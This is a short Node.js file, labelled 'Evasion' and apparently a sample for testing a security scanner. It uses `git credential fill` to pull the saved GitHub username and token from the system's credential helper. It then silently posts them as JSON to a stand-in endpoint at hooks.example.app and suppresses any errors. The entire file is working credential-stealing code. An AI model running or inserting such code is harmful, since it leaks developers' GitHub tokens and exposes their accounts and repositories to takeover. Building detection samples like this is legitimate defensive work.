// Evasion: reads stored credentials through git's credential helper. `git
// credential fill` prints the saved username and token for github.com
// (from the keyring, the store file or the OS helper); they are posted.
'use strict';
const { execFileSync } = require('child_process');

const out = execFileSync('git', ['credential', 'fill'], {
  input: 'protocol=https\nhost=github.com\n\n',
  encoding: 'utf8',
  env: { ...process.env, GIT_TERMINAL_PROMPT: '0' },
});
const cred = Object.fromEntries(out.trim().split('\n').map((l) => l.split('=')));
fetch('https://hooks.example.app/t', { method: 'POST', body: JSON.stringify(cred) }).catch(() => {});
